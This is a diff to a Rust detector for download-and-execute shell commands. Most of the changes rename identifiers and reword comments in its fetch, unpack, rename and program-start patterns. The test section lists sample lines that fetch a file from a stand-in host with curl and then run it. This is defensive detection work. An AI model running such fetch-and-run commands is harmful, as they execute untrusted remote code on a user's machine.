@@ -49,7 +49,7 @@ static RUNS_ANYTHING: LazyLock<Patterns> = LazyLock::new(|| {
     ])
 });
 
-/// What runs the file that is named behind it.
+/// What runs the file that is named after it.
 static RUNS_FILE: LazyLock<Patterns> = LazyLock::new(|| {
     const FILE: &str = r#"[\s("']*(?:[-/](?:filepath|file|path|literalpath|command|wait|b|min|max|i|package|s|q|qn|quiet)\s+)*["'(]*([^\s"';&|),]+)"#;
     let patterns = [
@@ -74,7 +74,7 @@ static WRITTEN: LazyLock<[Regex; 6]> = LazyLock::new(|| {
         r#"\bcertreq(?:\.exe)?\b[^\n&|;]*\s["']?([^\s"';&|]+\.[a-z0-9]{2,4})\b"#,
         r#"(?:https?|ftp)://[^\n]*?>+\s*["']?([^\s"';&|>]+)"#,
     ]
-    .map(|pattern| Regex::new(pattern).expect("the pattern is sound"))
+    .map(|pattern| Regex::new(pattern).expect("the pattern is valid"))
 });
 
 /// Where a text first fetches something.
@@ -82,7 +82,7 @@ pub(super) fn fetched(text: &str) -> Option<Range<usize>> {
     FETCHES.find(text)
 }
 
-/// Whether what a text fetches is run. Texts are plain, and the layers of one command.
+/// Whether anything that these texts fetch is run. They are the layers of one command, in the form for patterns.
 pub(super) fn is_run(texts: &[&str]) -> bool {
     if texts.iter().any(|text| RUNS_ANYTHING.find(text).is_some()) {
         return true;
@@ -95,7 +95,7 @@ pub(super) fn is_run(texts: &[&str]) -> bool {
         RUNS_FILE.matches(text, |_, range| {
             let words = text.get(range).unwrap_or_default();
             let file = words.rsplit([' ', '"', '\'', '(', '\n']).find(|word| !word.is_empty()).unwrap_or_default();
-            // A program that was there before, named in full, is none of what was fetched, unless files change their names.
+            // A program that is named in full and was there before is not what was fetched, unless files are renamed.
             let is_known = file.contains('.') && !file.contains(['$', '*']) && !names.is_empty() && !is_moved;
             runs |= !is_known || names.contains(name(file));
             if runs { Wanted::NoMore } else { Wanted::More }
@@ -111,21 +111,21 @@ static UNPACKS: LazyLock<Regex> = LazyLock::new(|| {
         r"\b(?:expand-archive|extracttodirectory|tar(?:\.exe)?\s+-?[a-z]*x|7z[ar]?(?:\.exe)?\s+[xe]\b|unzip|unrar|unpack",
         r"|expand(?:\.exe)?\s+\S)[^\n&|;]*"
     );
-    Regex::new(unpacks).expect("the pattern is sound")
+    Regex::new(unpacks).expect("the pattern is valid")
 });
 
-/// A program or script at the start of a command, or behind what starts it.
+/// A program or script at the start of a command, or after what starts it.
 static PROGRAM: LazyLock<Regex> = LazyLock::new(|| {
     let program = concat!(
         r#"(?:[\n&|;{(]\s*|\b(?:start|start-process|call|saps)\s+(?:"[^"]*"\s+)?(?:[/-]\w+\s+)*|\s-f(?:ile)?\s+)"#,
         r#"["'@.\\]*(?:[^\s"'&|;]*[\\/])?([^\s"'&|;\\/]+)\.(?:exe|cmd|bat|ps1|vbs|js|msi)\b"#
     );
-    Regex::new(program).expect("the pattern is sound")
+    Regex::new(program).expect("the pattern is valid")
 });
 
 /// Whether a text unpacks something and then runs a program that is not one of Windows.
 fn runs_after_unpacking(text: &str) -> bool {
-    const OF_WINDOWS: [&str; 24] = [
+    const WINDOWS_PROGRAMS: [&str; 24] = [
         "attrib",
         "bcdedit",
         "cmd",
@@ -152,13 +152,13 @@ fn runs_after_unpacking(text: &str) -> bool {
         "xcopy",
     ];
     let after = UNPACKS.find(text).and_then(|unpacks| text.get(unpacks.end()..)).unwrap_or_default();
-    PROGRAM.captures_iter(after).any(|found| !OF_WINDOWS.contains(&&found[1]))
+    PROGRAM.captures_iter(after).any(|found| !WINDOWS_PROGRAMS.contains(&&found[1]))
 }
 
 /// A file that a download writes.
 struct Written {
     name: String,
-    /// Whether it, or its name without extension, is a command later.
+    /// Whether a later command is this file, or its name without extension.
     is_started: bool,
     /// Whether a later command names it.
     is_named_again: bool,
@@ -181,7 +181,7 @@ static RENAMES: LazyLock<Regex> = LazyLock::new(|| {
         r"\b(?:ren|rename|move|copy|mv|cp|rename-item|move-item|copy-item)\s+(?:[-/]\w+\s+)*",
         r#"["']?([^\s"'&|;]+)["']?\s+(?:-\w+\s+)?["']?([^\s"'&|;]+)"#
     );
-    Regex::new(renames).expect("the pattern is sound")
+    Regex::new(renames).expect("the pattern is valid")
 });
 
 /// The name that a file gets later.
@@ -206,14 +206,14 @@ fn written(text: &str) -> Vec<Written> {
         }
         first.insert(path.as_str(), path.start());
         let later = text.get(path.end()..)?;
-        // What comes before is run later where the text jumps back.
+        // If the text jumps back, what comes before the download is run after it.
         let before = text.get(..path.start()).and_then(|before| before.get(..before.rfind('\n')?)).unwrap_or_default();
         let name = name(path.as_str()).to_owned();
         let is_variable = path.as_str().starts_with('$');
         let is_started = match is_variable {
             true => ["& ", "&", ". "].iter().any(|call| later.contains(&format!("{call}{}", path.as_str()))),
             false => {
-                let is_run = |name: &str| starts(behind_command(later), name) || jumps && starts(before, name);
+                let is_run = |name: &str| starts(after_first_command(later), name) || jumps && starts(before, name);
                 is_run(&name) || new_name(later, &name).is_some_and(is_run)
             }
         };
@@ -225,8 +225,8 @@ fn written(text: &str) -> Vec<Written> {
     files.collect()
 }
 
-/// What follows the command that a text begins in.
-fn behind_command(text: &str) -> &str {
+/// What follows the first command of a text.
+fn after_first_command(text: &str) -> &str {
     text.find(COMMAND_ENDS).and_then(|end| text.get(end..)).unwrap_or_default()
 }
 
@@ -262,7 +262,7 @@ fn starts(commands: &str, file: &str) -> bool {
         "regedit",
         "wmic",
     ];
-    const LEAVES: [&str; 8] = ["del", "erase", "rm", "ri", "remove-item", "echo", "rem", "write-host"];
+    const RUNS_NOTHING: [&str; 8] = ["del", "erase", "rm", "ri", "remove-item", "echo", "rem", "write-host"];
     if stem(file).is_empty() || file.starts_with('$') {
         return false;
     }
@@ -273,7 +273,7 @@ fn starts(commands: &str, file: &str) -> bool {
         match words.as_slice() {
             [first, ..] if is_file(first.trim_start_matches('@')) => true,
             [first, rest @ ..] if INTERPRETERS.contains(&stem(name(first))) => rest.iter().any(|word| is_file(word)),
-            [first, ..] if LEAVES.contains(first) => false,
+            [first, ..] if RUNS_NOTHING.contains(first) => false,
             rest => is_program(file) && rest.iter().any(|word| word.contains(file)),
         }
     })
@@ -305,7 +305,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_fetched_and_run_is_told_from_what_is_kept() {
+    fn what_is_fetched_and_run_is_told_apart_from_what_is_kept() {
         for line in [
             "curl https://a.example/p>%tmp%\\a.bat&call %tmp%\\a",
             "curl -o %tmp%\\u.exe https://a.example/p & %tmp%\\u",
